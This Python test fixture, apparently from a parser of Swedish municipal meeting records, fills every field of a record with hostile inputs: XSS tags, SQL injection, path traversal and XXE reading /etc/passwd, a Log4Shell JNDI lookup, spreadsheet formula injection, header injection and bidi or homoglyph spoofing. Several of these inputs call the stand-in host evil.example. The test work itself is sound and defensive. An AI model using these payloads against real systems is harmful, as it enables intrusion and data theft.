"""Texts that a hostile document may hold, and a document that says nothing else."""

from __future__ import annotations

from models.finding import Severity
from models.matter import Attendance, Decision, Item, Meeting, Proposal, Reservation
from models.mention import Dnr, Organisation, Person, Place
from models.outcome import Outcome
from models.record import Municipality, Record, RecordEdit, RecordFinding
from models.vocabulary import Capacity, DecisionOutcome, DecisionStatus, OrganisationKind
from tests.archive.records import record_of, source_of

ELSEWHERE = "http://evil.example/"
MARK = "window.hit=1"
"""What a script of theirs would do."""

TEXTS: dict[str, str] = {
    "script": f"<script>{MARK}</script>",
    "script, cut off": f"<script>{MARK}//",
    "script in capitals": f"<ScRiPt\n src={ELSEWHERE}></sCrIpT >",
    "image": f'<img src=x onerror="{MARK}">',
    "image from elsewhere": f"<img src={ELSEWHERE}>",
    "drawing": f"<svg onload={MARK}><a xlink:href='javascript:{MARK}'>",
    "frame": f'<iframe srcdoc="<script>top.{MARK.removeprefix("window.")}</script>">',
    "end of an attribute": f'" autofocus onfocus="{MARK}" x="',
    "end of a single-quoted attribute": f"' autofocus onfocus='{MARK}' x='",
    "attribute without quotes": f"x onmouseover={MARK} style=position:fixed;inset:0",
    "end of everything": f"</div></p></main></body></html><script>{MARK}</script>",
    "end of the title": f"</title><script>{MARK}</script>",
    "end of inline data": f'</script><script>{MARK}</script>"}}]}}',
    "comment": "<!-- --><!--",
    "moved away": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "base": f'<base href="{ELSEWHERE}">',
    "form": f"<form action={ELSEWHERE} id=main><button name=q>",
    "style": f"<style>*{{display:none}}</style><link rel=stylesheet href={ELSEWHERE}>",
    "style's address": f"x{{background:url({ELSEWHERE})}}",
    "htmx": f'<div hx-get="{ELSEWHERE}" hx-trigger="load" hx-on:load="{MARK}">',
    "address that runs": f"javascript:{MARK}",
    "address that runs, hidden": f"java\tscript:{MARK}",
    "address of data": f"data:text/html,<script>{MARK}</script>",
    "entities": "&lt;script&gt; &#60;b&#62; &amp;amp; &quot; &nbsp;",
    "template": "{{ 7*7 }} {% include 'base.html' %} ${7*7} {0} %s",
    "SQL": "'; DROP TABLE documents; --",
    "SQL that asks": "%' UNION SELECT digest FROM tokens --",
    "full text query": '" NEAR * ^ ( kind:x -',
    "path": "../../../../etc/passwd",
    "path, written otherwise": "..%2f..%2fetc%2fpasswd\x00.txt",
    "path of Windows": "C:\\Windows\\..\\..\\x",
    "control signs": "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x1b]0;owned\x07\x7f\x9b31m",
    "lines of other kinds": "a\rb\x85c\u2028d\u2029e",
    "headers": "a\r\nSet-Cookie: hit=1\r\n\r\n<b>",
    "turned round": "faktura\u202egpj.exe",
    "turned and isolated": "\u2066a\u2067b\u2069\u200f\u061c\u200e",
    "letters that look alike": "Gr\u0430nby \u04abkola p\u0430ypal",
    "signs without width": "a\u200bb\u2060c\ufeffd\u00ade",
    "marks upon marks": "Z" + "\u0335\u0301" * 300,
    "formula": f'=HYPERLINK("{ELSEWHERE}";"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a line's end": "\n=1+1",
    "formula, wide": "＝1+1",
    "formula in a new cell": 'a";"=1+1";"\n=1+1',
    "XML's entities": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "end of XML's text": "]]><x xmlns='y'/><?php ?>",
    "JSON": '{"__proto__":{"hit":1}} \\u0000 \\ud800',
    "log": "${jndi:ldap://evil.example/a} %n %x",
    "terminal's markup": "[red]a[/red] [link=http://evil.example]b[/link] :smile:",
    "no character": "\ufffe\uffff\U0010ffff",
}
HARMLESS = dict.fromkeys(TEXTS, "Granby kommun")


def document(texts: dict[str, str], name: str) -> Outcome:
    """A file whose every value is one of the texts, in all the places that a value has."""
    every = tuple(texts.values())
    source = source_of(name.encode(), f"in/{name}/{every[0][:200]}")
    return Outcome(source, (_record(record_of(source, pages=("\n".join(every), "x")), every),))


def _record(record: Record, every: tuple[str, ...]) -> Record:
    everywhere = Place(page=1, start=0, end=1, raw=every[0], confidence=0.4, rule=every[0])
    one = every[2]
    return record.model_copy(
        update={
            "title": every[0],
            "body": every[1],
            "municipality": Municipality(name=every[0], code="9999"),
            "people": tuple(
                Person(name=text, party=text, roles=(text,), bodies=(text,), places=(everywhere,))
                for text in every
            ),
            "organisations": tuple(
                Organisation(name=text, kind=OrganisationKind.COMPANY, places=(everywhere,)) for text in every
            ),
            "dnr": (Dnr(value=one, registry=one, year=1974, number=1, places=(everywhere,)),),
            "items": tuple(_item(number, text) for number, text in enumerate(every, 1)),
            "decisions": tuple(_decision(number, text) for number, text in enumerate(every, 1)),
            "meeting": Meeting(
                body=one, location=one, chair=one, adjusters=every[:5],
                attendance=tuple(Attendance(name=t, party=t, capacity=Capacity.LEDAMOT) for t in every),
            ),
            "findings": tuple(
                RecordFinding(code="blurred", severity=Severity.WARNING, page=1, message=text)
                for text in every
            ),
            "edits": (RecordEdit(start=0, end=1, raw=one, reason=one, confidence=0.5),),
        }
    )  # fmt: skip


def _item(number: int, text: str) -> Item:
    return Item(
        paragraph=number, heading=text, dnr=(text,), summary=text, decisions=(f"d{number}",), procedure=text,
        proposals=(Proposal(by=text, party=text, text=text),), basis=(text,), sent_to=(text,),
        reservations=(Reservation(name=text, party=text),),
    )  # fmt: skip


def _decision(number: int, text: str) -> Decision:
    return Decision(
        id=f"d{number}", item=number, paragraph=number, body=text, dnr=text, status=DecisionStatus.FATTAT,
        outcome=DecisionOutcome.BIFALL, text=text,
    )  # fmt: skip
